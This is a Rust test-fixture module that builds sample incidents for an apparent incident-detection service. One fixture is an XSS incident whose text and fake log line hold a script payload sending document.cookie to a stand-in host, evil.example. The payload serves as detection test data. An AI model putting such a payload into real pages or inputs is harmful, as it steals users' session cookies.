//! Incidents and memories for tests.

use super::SimilarIncident;
use crate::clock::Timestamp;
use crate::finding::Kind;
use crate::fingerprint::Fingerprint;
use crate::incident::{Incident, IncidentEvidence, OpenedBecause, Status};
use crate::severity::{Severity, Urgency};

pub(crate) fn at(text: &str) -> Timestamp {
    text.parse().unwrap()
}

/// An incident with one piece of evidence.
pub(crate) fn incident(kind: Kind, service: &str, rule: &str, text: &str, line: &str) -> Incident {
    let first_seen = at("2026-03-14T02:10:00Z");
    Incident {
        id: 123,
        event_id: Some(1),
        status: Status::Notified,
        kind,
        severity: Severity::Error,
        urgency: Urgency::Notify,
        service: service.to_owned(),
        environment: "prod".to_owned(),
        summary: line.to_owned(),
        fingerprint: Fingerprint::of_key("test", service),
        partition: 0,
        labels: Vec::new(),
        event_count: 1,
        first_seen,
        last_seen: first_seen,
        anomaly_score: None,
        confidence: 0.9,
        evidence: vec![evidence(kind, rule, text, line)],
        correlations: Vec::new(),
        opened_because: Some(OpenedBecause {
            event_id: 1,
            rule: rule.to_owned(),
            score: 0.9,
            threshold: 0.3,
            severity: String::new(),
            urgency: String::new(),
            fingerprint_of: String::new(),
        }),
        ended_by: None,
        ended_at: None,
        previous_incident_id: None,
        episode: None,
        ends_by_source: false,
        still_firing_since: None,
        reopened_count: 0,
        resolved_count: 0,
        changes: Vec::new(),
        flapping_since: None,
    }
}

pub(crate) fn evidence(kind: Kind, rule: &str, text: &str, line: &str) -> IncidentEvidence {
    IncidentEvidence {
        event_id: 1,
        seen_at: at("2026-03-14T02:10:00Z"),
        kind,
        score: 0.9,
        rule: rule.to_owned(),
        text: text.to_owned(),
        at: "payload".to_owned(),
        line: line.to_owned(),
    }
}

/// A script sent in a query, once.
pub(crate) fn xss() -> Incident {
    let text = "<script>fetch('//evil.example/'+document.cookie)</script>";
    let line = "203.0.113.9 GET /search?q=<script>fetch('//evil.example/'+document.cookie)</script> 200";
    let mut incident = incident(Kind::Xss, "shop", "xss.script_tag", text, line);
    incident.summary = format!("Script in query.q: {text}");
    incident
}

/// A thousand database timeouts whose pool is empty.
pub(crate) fn db_timeout() -> Incident {
    let line = "ERROR Database connection timeout after 30000ms: QueuePool limit of size 10 overflow 5 reached";
    let mut incident = incident(Kind::DbTimeout, "checkout", "db_timeout.words", "connection timeout", line);
    incident.summary = "Database connection timeout after <num>ms: QueuePool limit reached".to_owned();
    incident.severity = Severity::Critical;
    incident.event_count = 1_000;
    incident.last_seen = at("2026-03-14T02:14:00Z");
    incident
}

/// What ana wrote two days earlier.
pub(crate) fn confirmed_fix() -> SimilarIncident {
    SimilarIncident {
        id: "incident-12".to_owned(),
        incident_id: Some(12),
        summary: "checkout: connection pool exhausted".to_owned(),
        service: "checkout".to_owned(),
        solution: Some("raised max_connections from 100 to 200".to_owned()),
        similarity: 0.91,
        author: Some("ana".to_owned()),
        resolved_at: Some(at("2026-03-12T08:00:00Z")),
        outcome: Some("quiet after 6 min".to_owned()),
        confirmed: true,
    }
}
